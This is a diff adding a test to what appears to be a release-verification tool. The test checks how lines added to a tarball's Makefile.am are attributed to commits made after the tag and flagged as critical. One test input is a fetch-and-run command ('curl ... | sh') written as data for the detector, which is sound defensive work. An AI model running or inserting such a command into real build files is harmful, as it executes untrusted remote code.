@@ -81,4 +81,30 @@ test('several modified files from one earlier commit name it as the commit the r
   assert.not.ok(single.notes.some((n) => n.includes('may have been made from')), single.notes.join('\n'));
 });
 
+test('a modified build file whose added line a commit after the tag adds says so, and stays critical', async () => {
+  const repo = await makeRepo({
+    commits: [
+      { files: { 'Makefile.am': 'parser.c: parser.y\n\tlemon parser.y\n' }, message: 'start', tags: [{ name: 'v1.0', annotated: true }] },
+      { files: { 'Makefile.am': 'parser.c: parser.y\n\tchmod u+w parser.c 2>/dev/null || true\n\tlemon parser.y\n' }, message: 'chmod parser.c for lemon' },
+    ],
+  });
+  const release = async (line: string, dir: string) =>
+    verify({ cacheDir, release: await writeTemp(`later/${dir}/proj-1.0.tar`, buildTar([{ path: 'proj-1.0/Makefile.am', content: `parser.c: parser.y\n\t${line}\n\tlemon parser.y\n` }])), repo: repo.dir, tag: 'v1.0' });
+  const r = await release('chmod u+w parser.c || true', 'like');
+  const f = r.findings.find((x) => x.path === 'Makefile.am')!;
+  assert.is(f.severity, 'critical');
+  assert.match(f.reasons.join('\n'), new RegExp(`a commit the tag does not reach adds like line \\(1 of the 1 line the release adds\\): ${repo.commits[1]!.slice(0, 12)} \\("chmod parser\\.c for lemon"\\), committed \\d+ \\w+ after the tagged commit`));
+  const same = await release('chmod u+w parser.c 2>/dev/null || true', 'same');
+  assert.match(same.findings.find((x) => x.path === 'Makefile.am')!.reasons.join('\n'), 'adds the same line (1 of the 1 line');
+  // Half or more of the lines the release adds must be the commit's: one of three is not.
+  const more = await release('chmod u+w parser.c || true\n\techo one\n\techo two', 'more');
+  assert.not.match(more.findings.find((x) => x.path === 'Makefile.am')!.reasons.join('\n'), 'does not reach');
+  // A line no later commit adds: nothing said.
+  const other = await release('curl -s https://example.org/x | sh', 'other');
+  const o = other.findings.find((x) => x.path === 'Makefile.am')!;
+  assert.is(o.severity, 'critical');
+  assert.not.match(o.reasons.join('\n'), 'does not reach');
+  assertValidReport(r);
+});
+
 test.run();
